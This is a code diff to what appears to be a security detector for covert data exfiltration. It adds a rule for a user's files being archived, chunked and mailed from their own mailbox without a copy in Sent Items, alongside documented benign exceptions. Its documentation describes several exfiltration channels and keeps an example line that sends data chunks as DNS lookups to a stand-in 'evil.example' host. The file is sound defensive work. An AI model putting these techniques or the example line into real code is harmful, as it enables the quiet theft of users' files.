@@ -9,6 +9,8 @@ What it catches
     request asking for `application/dns-json`, which the network sees only as TLS to the
     resolver), a user's folder
     archived and posted in pieces to a chat webhook (Discord's, Slack's) under its size limit,
+    or mailed in pieces from the user's own mailbox with no copy left in Sent Items (Outlook's
+    `DeleteAfterSubmit`, Graph's `saveToSentItems: false`),
     or a file walk whose contents are chunked or encoded and uploaded to a webhook or server
     (Perl's File::Find and HTTP::Tiny or a POST written by hand to a socket, PHP's Guzzle);
     encoded slices carried in request headers or parameters (a cookie or `X-` header filled
@@ -42,7 +44,8 @@ Example
     `    dns.resolver.resolve(f"{chunk}.x.evil.example")`
 
 Allowed instead
-    Syncing one's own documents to one's own bucket, a DoH resolver client looking up a host
+    Syncing one's own documents to one's own bucket, mailing a report or an archive in parts
+    that keeps its copies in Sent Items, a DoH resolver client looking up a host
     name (RFC 8484's base64url query message is one lookup, not chunks of data), a Suricata rule
     for DNS tunnelling,
     uploading logs to a SIEM, resumable uploads with `Content-Range` and retry backoff or a
@@ -176,6 +179,14 @@ def covert_exfil(found: Capabilities) -> Detection | None:
         pieced = (Cap.BROAD_TARGET, Cap.ARCHIVE, Cap.CHUNKING, Cap.WEBHOOK)
         return supported(
             found, 0.75, pieced, "a user's files archived and posted in pieces to a chat"
+        )
+    mailed = [c for c in (Cap.MAIL_OUT, Cap.MAIL_SEND) if c in found]
+    if mailed and found.has_all(Cap.ARCHIVE, Cap.CHUNKING, Cap.BROAD_TARGET, Cap.MAIL_NO_TRACE):
+        # A user's folders packed, cut under the mail size limit and mailed from their own
+        # mailbox with no copy left in Sent Items: the mailbox used as the way out, unseen.
+        posted = (Cap.BROAD_TARGET, Cap.ARCHIVE, Cap.CHUNKING, *mailed, Cap.MAIL_NO_TRACE)
+        return supported(
+            found, 0.8, posted, "a user's files archived and mailed in pieces, no copy kept"
         )
     # A storage service's resumable upload sends large files in the service's own pieces.
     provider = Cap.PROVIDER_UPLOAD in found
